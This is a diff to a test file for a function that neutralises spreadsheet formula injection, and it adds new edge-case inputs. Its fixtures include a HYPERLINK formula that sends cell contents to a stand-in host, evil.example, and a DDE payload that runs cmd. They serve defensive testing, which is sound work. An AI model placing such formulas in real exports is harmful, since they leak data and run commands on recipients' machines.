@@ -25,12 +25,13 @@ HOSTILE_AGENCY = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
 HOSTILE_ENTRY = "@SUM(1+1)*cmd|' /C calc'!A0"
 
 
-@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "-cmd|x"])
+@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "-cmd|x", "--1", "－1+1"])
 def test_formula_like_text_is_neutralised(value):
     assert is_formula_like(value) and neutralise(value) == "'" + value
 
 
-@pytest.mark.parametrize("value", [12, -5, 3.5, "-12.5", "+3", "1e5", "哈尔滨市", "a=b", "", None])
+@pytest.mark.parametrize("value", [12, -5, 3.5, "-12.5", "+3", "1e5", "哈尔滨市", "a=b", "", None,
+                                   "-", "－"])
 def test_numbers_and_plain_text_are_unchanged(value):
     assert neutralise(value) == value
 
